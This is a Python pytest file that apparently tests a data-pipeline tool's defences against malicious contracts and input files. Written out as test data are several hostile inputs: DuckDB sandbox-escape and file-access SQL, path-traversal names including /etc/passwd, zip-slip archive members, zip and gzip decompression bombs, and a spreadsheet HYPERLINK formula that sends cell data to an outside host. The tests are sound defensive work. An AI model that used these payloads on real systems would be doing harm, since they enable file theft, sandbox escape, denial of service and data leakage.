"""Files and contracts of somebody who means harm: each is refused or made harmless, through the real front doors."""

from __future__ import annotations

import csv
import gzip
import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner, Result
from demo_homes import DemoHome
from empty_warehouses import new_warehouse

from data_contracts.loader import packaged_templates
from pipelines.cli.main import kpi
from pipelines.home import Home
from pipelines.readers import Limits, RefusedFile, inspect_file
from pipelines.scaffold import HomeFacts, write_home
from pipelines.warehouse import Warehouse

HEADER = "Delivery ID,Order Date,Vendor,Promised Date"
#: What a bomb of this test becomes when it is unpacked, and the most that looking at it may take.
UNPACKED = 300_000_000
MOST_MEMORY = 64_000_000


@pytest.fixture
def home(tmp_path: Path) -> Home:
    """A home with one contract, in a folder of its own, so that nothing else can be written beside it unseen."""
    folder = tmp_path / "house" / "home"
    folder.parent.mkdir()
    write_home(folder, HomeFacts("Desk"))
    home = Home(folder)
    (home.contracts / "deliveries.yaml").write_text(packaged_templates()["deliveries"], encoding="utf-8")
    return home


def run(home: Home, *arguments: str) -> Result:
    return CliRunner().invoke(kpi, [*arguments, "--home", str(home.folder)])


def files_of(folder: Path) -> set[str]:
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*")}


@pytest.fixture
def warehouse(tmp_path: Path) -> Iterator[Warehouse]:
    with new_warehouse(tmp_path / "warehouse.duckdb") as opened:
        yield opened


STATEMENTS = {
    "reads a file": "SELECT * FROM read_text('{secret}')",
    "reads a file as a table": "SELECT * FROM '{secret}'",
    "lists files": "SELECT * FROM glob('{folder}/*')",
    "writes a file": "COPY (SELECT 1) TO '{folder}/out.csv'",
    "attaches a database": "ATTACH '{folder}/other.duckdb' AS other",
    "exports all": "EXPORT DATABASE '{folder}/all'",
    "loads an extension": "LOAD httpfs",
    "installs an extension": "INSTALL httpfs",
    "opens itself up": "SET enable_external_access = true",
    "allows a folder": "SET allowed_directories = ['{folder}']",
}


@pytest.mark.parametrize("name", STATEMENTS)
def test_the_gate_has_no_access_even_to_what_no_parser_has_seen(
    name: str, warehouse: Warehouse, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("secret\n", encoding="utf-8")
    before = files_of(tmp_path)
    statement = STATEMENTS[name].format(secret=secret, folder=tmp_path)
    with pytest.raises(duckdb.Error):
        warehouse.connection.execute(statement).fetchall()
    assert files_of(tmp_path) == before


@pytest.mark.parametrize(
    "query",
    [
        "SELECT 1; COPY (SELECT 1) TO '{folder}/out.csv'",
        "COPY (SELECT 1) TO '{folder}/out.csv'",
        "SELECT content FROM read_text('{folder}/home/kpi.toml')",
        "SELECT * FROM '{folder}/home/kpi.toml'",
        "ATTACH '{folder}/other.duckdb'",
        "DELETE FROM stg.stg_deliveries",
        "SELECT * FROM (DELETE FROM stg.stg_deliveries RETURNING *)",
        "SELECT getenv('HOME')",
        "SELECT * FROM query('DROP TABLE stg.stg_deliveries')",
    ],
)
def test_a_contract_with_such_sql_is_refused_before_anything_runs(query: str, home: Home) -> None:
    statement = json.dumps(query.format(folder=home.folder.parent))
    (home.contracts / "deliveries.yaml").write_text(
        "schema:\n"
        "  - name: deliveries\n"
        "    quality:\n"
        "      - name: deliveries.harm.done\n"
        "        description: Harm.\n"
        "        dimension: conformity\n"
        "        type: custom\n"
        "        engine: greatExpectations\n"
        "        implementation:\n"
        "          type: unexpected_rows_expectation\n"
        f"          kwargs: {{unexpected_rows_query: {statement}}}\n"
        "        customProperties:\n"
        "          - {property: action, value: warn}\n"
        "customProperties:\n"
        "  - {property: extends, value: deliveries}\n",
        encoding="utf-8",
    )
    before = files_of(home.folder.parent)
    ended = run(home, "check")
    assert ended.exit_code == 2
    assert "contracts/deliveries.yaml:11: rule 'deliveries.harm.done': the query cannot be used" in ended.output
    assert files_of(home.folder.parent) == before


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("id: deliveries", "id: ../../evil", "'../../evil' is not a name for files and tables"),
        ("id: deliveries", "id: /etc", "'/etc' is not a name for files and tables"),
        ("- name: deliveries", "- name: ../evil", "'../evil' is not a name for files and tables"),
        ('path: "*.csv*"', 'path: "../../*"', "leads out of the landing folder"),
        ('path: "*.csv*"', 'path: "..\\\\*"', "leads out of the landing folder"),
        ('path: "*.csv*"', "path: /etc/passwd", "leads out of the landing folder"),
        ("value: procurement", "value: ../../evil", ""),
        (
            "customProperties:\n  - {property: source",
            "customProperties:\n  - {property: extends, value: ../../evil}\n  - {property: source",
            "extends '../../evil', which is no template",
        ),
    ],
)
def test_a_contract_cannot_name_places_outside(old: str, new: str, said: str, home: Home) -> None:
    text = packaged_templates()["deliveries"]
    assert old in text
    (home.contracts / "deliveries.yaml").write_text(text.replace(old, new), encoding="utf-8")
    before = files_of(home.folder.parent)
    ended = run(home, "contract", "lint")
    if said:
        assert ended.exit_code == 2
        assert said in ended.output
    run(home, "run")
    created = files_of(home.folder.parent) - before
    assert {name.partition("/")[0] for name in created} <= {"home"}, "whatever it is called, it stays in the home"
    assert not [name for name in created if "evil" in name]


def test_a_member_that_leads_out_of_its_archive_is_never_unpacked(home: Home) -> None:
    folder = home.landing / "deliveries"
    folder.mkdir(parents=True, exist_ok=True)
    members = ("../../../evil.csv", "/evil.csv", "..\\..\\evil.csv", "a/../../evil.csv", "C:\\evil.csv")
    for number, member in enumerate(members):
        with zipfile.ZipFile(folder / f"export {number}.csv.zip", "w") as archive:
            archive.writestr(member, f"{HEADER}\nD-{number},2-Jun-26,Acme,9-Jun-26\n")
    ended = run(home, "run")
    assert ended.exit_code == 5, ended.output
    # Each was looked at, and none has the columns of its contract.
    assert len(DemoHome(home.folder).refusals()) == len(members)
    assert not [name for name in files_of(home.folder.parent) if name.endswith("evil.csv")]
    assert not Path("/evil.csv").exists()


def _zip_bomb(name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if name.startswith("xl/"):
            archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(name, "w", force_zip64=True) as member:
            for _ in range(UNPACKED // 1_000_000):
                member.write(bytes(1_000_000))
    return buffer.getvalue()


def _gzip_bomb() -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb") as packed:
        for _ in range(UNPACKED // 1_000_000):
            packed.write(bytes(1_000_000))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "kind"),
    [("bomb.csv.zip", "export.csv"), ("bomb.xlsx", "xl/worksheets/sheet1.xml"), ("bomb.csv.gz", "gzip")],
)
def test_a_bomb_of_300_megabytes_is_refused_without_being_unpacked(name: str, kind: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes(_gzip_bomb() if kind == "gzip" else _zip_bomb(kind))
    assert path.stat().st_size < 350_000
    tracemalloc.start()
    try:
        with pytest.raises(RefusedFile) as caught:
            inspect_file(path, tmp_path, limits=Limits(settle_seconds=0))
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert caught.value.code == "zip_bomb"
    assert most < MOST_MEMORY
    assert files_of(tmp_path) == {name}


def test_a_key_that_is_a_formula_is_harmless_in_the_export_of_what_is_set_aside(home: Home, tmp_path: Path) -> None:
    key = '=HYPERLINK("http://example.org/?"&A1)'
    with new_warehouse(home.warehouse) as opened:
        opened.execute(
            "INSERT INTO ops.ops_quarantined_records VALUES"
            " ('tickets', 'stg_tickets', ?, 'tickets.a.b', '@SUM(1)', 'batch', now(), 'desk', '+1+1.csv', 2)",
            [key],
        )
    path = tmp_path / "aside.csv"
    assert run(home, "quarantine", "export", "-o", str(path)).exit_code == 0
    with path.open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert (row["record_id"], row["reason"], row["file_name"]) == (f"'{key}", "'@SUM(1)", "'+1+1.csv")
    assert row["row_number"] == "2"
    shown = run(home, "quarantine", "list")
    assert key in shown.output, "a terminal runs no formulas"
